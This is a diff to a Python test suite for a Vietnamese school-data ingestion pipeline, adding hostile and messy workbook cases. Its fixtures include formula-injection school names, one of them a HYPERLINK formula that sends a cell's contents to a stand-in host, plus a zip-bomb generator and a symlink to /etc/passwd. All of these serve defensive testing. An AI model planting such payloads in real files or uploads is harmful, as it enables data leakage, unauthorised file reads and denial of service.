@@ -30,7 +30,12 @@ REGISTRY = [
     (TH, "Trường Tiểu học Lê Lợi", "Tiểu học"),
     (MN, "Trường Mầm non Hoa Sen", "Mầm non"),
     (THCS, "Trường THCS Chu Văn An", "THCS"),
+    # school names that would be live formulas or markup if written as they are (issue 14)
+    ("31000004", '=HYPERLINK("http://x.invalid/?leak="&A1,"Bấm vào đây")', "Tiểu học"),
+    ("31000005", "+2+3", "Tiểu học"),
+    ("31000006", "@SUM(A1:A3) <script>alert(1)</script>", "Tiểu học"),
 ]
+HOSTILE_NAMES = [name for _, name, _ in REGISTRY[3:]]
 
 EMIS_ROWS = [
     ["101", "Tổng số lớp", 10, None, None],
@@ -246,6 +251,115 @@ def big_export(path: Path, n: int = 100_000) -> None:
     path.write_text(header + "\n" + frame.write_csv(), encoding="utf-8")
 
 
+# --- issue 14: real-world and hostile workbooks --------------------------------------------
+
+
+def far_cell(row: int, col: int) -> Callable[[Path], None]:
+    """A normal report, plus one stray cell at the sheet's far corner (2 KB on disk)."""
+
+    def build(path: Path) -> None:
+        def cells(wb, ws):
+            top = _emis_top(ws)
+            ws.write_row(top, 0, COLUMNS["emis_report"])
+            for r, values in enumerate(EMIS_ROWS, start=top + 1):
+                ws.write_row(r, 0, values)
+            ws.write_string(row, col, "x")
+
+        _xlsx_cells(path, cells)
+
+    return build
+
+
+def zip_bomb(path: Path) -> None:
+    """A small workbook whose sheet expands to ~450 MB of XML (whitespace compresses well)."""
+    import zipfile
+
+    emis(path)
+    with tempfile.TemporaryDirectory() as tmp:
+        plain = Path(tmp) / "p.xlsx"
+        plain.write_bytes(path.read_bytes())
+        with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+            for info in src.infolist():
+                data = src.read(info)
+                if info.filename != "xl/worksheets/sheet1.xml":
+                    out.writestr(info, data)
+                    continue
+                head, _, tail = data.partition(b"<sheetData>")
+                with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
+                    member.write(head + b"<sheetData>")
+                    pad = b" " * (1 << 20)
+                    for _ in range(450):
+                        member.write(pad)
+                    member.write(tail)
+
+
+def _symlink(target: str | Callable[[Path], Path]) -> Callable[[Path], None]:
+    def build(path: Path) -> None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.symlink_to(target(path) if callable(target) else target)
+
+    return build
+
+
+def _outside_folder(path: Path) -> Path:
+    """A folder outside raw/ holding a teachers export that must never be read."""
+    outside = path.parents[2] / "ngoai_raw"
+    teachers(outside / "gv_ngoai.xlsx")
+    return outside
+
+
+def emis_grid(rows: list[list[object]], *, sheets=None, csv_sep: str | None = None):
+    """A report written cell by cell: `rows` are whole sheet rows (header block included).
+    `sheets` = [(name, rows, hidden)] writes several sheets instead."""
+
+    def build(path: Path) -> None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if csv_sep is not None:
+            out = io.StringIO()
+            csv.writer(out, delimiter=csv_sep, lineterminator="\n").writerows(rows)
+            path.write_text(out.getvalue(), encoding="utf-8")
+            return
+        wb = xlsxwriter.Workbook(str(path))
+        for name, sheet_rows, hidden in sheets or [("Báo cáo", rows, False)]:
+            ws = wb.add_worksheet(name)
+            for r, values in enumerate(sheet_rows):
+                for c, v in enumerate(values):
+                    if v is not None:
+                        ws.write(r, c, v)
+            if hidden:
+                ws.hide()
+            else:
+                ws.activate()  # xlsxwriter never hides the active sheet
+        wb.close()
+
+    return build
+
+
+def emis_rows(columns=None, body=None, school: str = THCS, period: str = "Cuối năm",
+              day: str = "26/05/2025", gap: int = 1) -> list[list[object]]:  # fmt: skip
+    top = [[f"{k}: {v}"] for k, v in _emis_header(school=school, period=period, day=day)]
+    return [*top, *[[] for _ in range(gap)], columns or COLUMNS["emis_report"],
+            *(EMIS_ROWS if body is None else body)]  # fmt: skip
+
+
+def student_rows(body: list[list[object]], day: str) -> list[list[object]]:
+    top = [[f"{k}:", v] for k, v in _people_header(day=day)]
+    return [*top, [], COLUMNS["students"], *body]
+
+
+def renamed(build: Callable[[Path], None], real_suffix: str) -> Callable[[Path], None]:
+    def write(path: Path) -> None:
+        real = path.with_name(path.stem + "__real" + real_suffix)
+        build(real)
+        real.rename(path)
+
+    return write
+
+
+FEMALE_OF = "select sum(female) from landing.emis_report where _source_file = ?"
+ISSUES_OF = "select count(*) from audit.ingest_issues where source_file = ? and rule_id = "
+
+
 @dataclass(frozen=True)
 class Case:
     name: str
@@ -410,12 +524,93 @@ CASES: list[Case] = [
     Case("teachers export", "teachers/gv.xlsx", teachers, "accepted", rows_read=1),
     Case("registry listing a school twice", "schools/bo_sung.xlsx",
          lambda p: write_registry(p.parents[1], [REGISTRY[0], REGISTRY[0], *REGISTRY[1:]], name=p.name),
-         "quarantined", "duplicate_school_code", "bị trùng trong danh mục", rows_read=4),
+         "quarantined", "duplicate_school_code", "bị trùng trong danh mục",
+         rows_read=len(REGISTRY) + 1),
     # the same file twice, and editor droppings
     Case("original of a copy", "emis_report/ban_goc.xlsx",
          lambda p: emis(p, school=THCS, day="06/10/2024"), "accepted", rows_read=3),
     Case("same file under another name", "emis_report/ban_sao.xlsx", _copy_of("ban_goc.xlsx"),
          "duplicate", "duplicate_file", "trùng nội dung với tệp đã nạp 'emis_report/ban_goc.xlsx'"),
     Case("Excel lock file", "emis_report/~$ban_goc.xlsx", write_bytes(b"\x00lock"), "ignored"),
+    # issue 14: files that must not stop or swell a run
+    Case("stray cell at XFD1048576", "emis_report/o_xa_goc.xlsx", far_cell(1048575, 16383),
+         "rejected", "sheet_too_large", "có ô ở XFD1048576"),
+    Case("stray cell at CV1048576", "emis_report/o_xa_cv.xlsx", far_cell(1048575, 99),
+         "rejected", "sheet_too_large", "xoá các dòng, cột thừa"),
+    Case("stray cell 300 columns right", "cds_assessment/o_xa_cot.xlsx",
+         lambda p: _xlsx_cells(p, lambda wb, ws: (ws.write_row(0, 0, COLUMNS["cds_assessment"]),
+                                                  ws.write_string(5, 300, "ghi chú"))),
+         "rejected", "sheet_too_large", "có ô ở KO6"),
+    Case("zip bomb (450 MB of XML in a small file)", "emis_report/bom_nen.xlsx", zip_bomb,
+         "rejected", "file_too_large", "bom nén"),
+    Case("symbolic link to /etc/passwd", "students/passwd.csv", _symlink("/etc/passwd"),
+         "rejected", "file_symlink", "liên kết (symlink) tới '/etc/passwd'"),
+    Case("symbolic link to a folder outside raw/", "teachers/thu_muc_ngoai",
+         _symlink(_outside_folder), "rejected", "file_symlink", "không phải tệp thật"),
+    # files that say what they really are
+    Case(".xlsx renamed .xls (read by content)", "emis_report/doi_duoi.xls",
+         renamed(lambda p: emis(p, school=THCS, period="Cuối năm", day="27/05/2025"), ".xlsx"),
+         "accepted", rows_read=3),
+    Case("PDF renamed .xlsx", "emis_report/pdf_doi_ten.xlsx", write_bytes(b"%PDF-1.4\n%\xe2"),
+         "rejected", "file_unreadable", "thực chất là: tài liệu PDF"),
+    Case("workbook renamed .csv", "students/excel_doi_ten.csv",
+         renamed(_students(GOOD), ".xlsx"),
+         "rejected", "file_unreadable", "thực chất là Excel .xlsx: đổi đuôi thành .xlsx"),
+    Case("no header found: the closest row is shown", "emis_report/sai_tieu_de.xlsx",
+         emis_grid(emis_rows(columns=["Mã", "Tên chỉ tiêu", "Số lượng", "Nữ", "Dân tộc"])),
+         "rejected", "missing_required_column", "dòng gần đúng nhất (dòng 6): Mã | Tên chỉ tiêu"),
+    # which sheet
+    Case("hidden sheet with last year's figures", "emis_report/trang_an.xlsx",
+         emis_grid([], sheets=[
+             ("Năm trước", emis_rows(body=[["201", "Tổng số học sinh", 999, 999, 9]]), True),
+             ("Năm nay", emis_rows(body=[["201", "Tổng số học sinh", 310, 155, 11]]), False)]),
+         "warning", "hidden_sheet_skipped", "Bỏ qua trang tính ẩn: 'Năm trước'", rows_read=1,
+         landed=_landed(FEMALE_OF, 155)),
+    Case("a school with hostile characters in its name sends its assessment",
+         "cds_assessment/ten_doc_hai.xlsx", lambda p: cds(p, school="31000006"), "accepted",
+         rows_read=1),
+    Case("one sheet per class: the others are named", "students/moi_lop_mot_trang.xlsx",
+         emis_grid([], sheets=[
+             ("Lớp 3A", student_rows([student_row(30)], "07/10/2024"), False),
+             ("Lớp 3B", student_rows([student_row(31)], "07/10/2024"), False)]),
+         "warning", "other_sheets_not_read", "'Lớp 3B' cũng có bảng cùng dạng nhưng KHÔNG",
+         rows_read=1),
+    # footers and repeated headers
+    Case("total line, signature block and signer's name under a pupil list",
+         "students/chu_ky.xlsx",
+         emis_grid(student_rows([student_row(40), student_row(41),
+                                 ["Tổng cộng: 2 học sinh"], [],
+                                 [None, "Người lập biểu"], [None, "(Ký, ghi rõ họ tên)"], [],
+                                 [None, "Trần Văn Ký"]], "08/10/2024")),
+         "warning", "table_end", "Bảng kết thúc ở dòng 11", rows_read=2,
+         landed=_landed("select count(*) from landing.students where _source_file = ?", 2)),
+    Case("repeated header row in a long list", "students/tieu_de_lap.xlsx",
+         emis_grid(student_rows([student_row(50), COLUMNS["students"], student_row(51)],
+                                "09/10/2024")),
+         "warning", "repeated_header_skipped", "Bỏ qua 1 dòng tiêu đề lặp lại", rows_read=2),
+    # headers real schools write
+    Case("'TRONG ĐÓ: NỮ', 'Tổng số (*)', numbered headers", "emis_report/tieu_de_la.xlsx",
+         emis_grid(emis_rows(columns=["Mã số\n(1)", "Chỉ tiêu\n(2)", "Tổng số (*)",
+                                      "TRONG ĐÓ: NỮ", "Dân tộc\n(5)"], day="28/05/2025")),
+         "accepted", rows_read=3, landed=_landed(FEMALE_OF, 150)),
+    Case("two-level header ('Số lượng' above the counts)", "emis_report/hai_tang.xlsx",
+         emis_grid(emis_rows(columns=["Mã số", "Chỉ tiêu", "Số lượng", None, None],
+                             body=[[None, None, "Tổng số", "Nữ", "Dân tộc"], *EMIS_ROWS],
+                             day="29/05/2025")),
+         "accepted", rows_read=3, landed=_landed(FEMALE_OF, 150)),
+    Case("header below row 60", "emis_report/tieu_de_thap.xlsx",
+         emis_grid(emis_rows(gap=70, day="30/05/2025")), "accepted", rows_read=3),
+    Case("';'-separated CSV (Vietnamese regional settings)", "students/cham_phay.csv",
+         emis_grid(student_rows([student_row(60), student_row(61)], "10/10/2024"), csv_sep=";"),
+         "accepted", rows_read=2, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
+    Case("tab-separated CSV", "students/tab.csv",
+         emis_grid(student_rows([student_row(62)], "11/10/2024"), csv_sep="\t"),
+         "accepted", rows_read=1, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
+    # issues are capped per file and rule
+    Case("300 malformed IDs: 200 issues and a summary", "students/nhieu_loi.csv",
+         _text(students_csv_text([student_row(100 + i, **{"Số định danh cá nhân": "12"})
+                                  for i in range(300)], day="12/10/2024"), "utf-8"),
+         "warning", "id_wrong_format", "đúng 12 chữ số", rows_read=300,
+         landed=_landed(ISSUES_OF + "'id_wrong_format'", 201)),
 ]
 # fmt: on
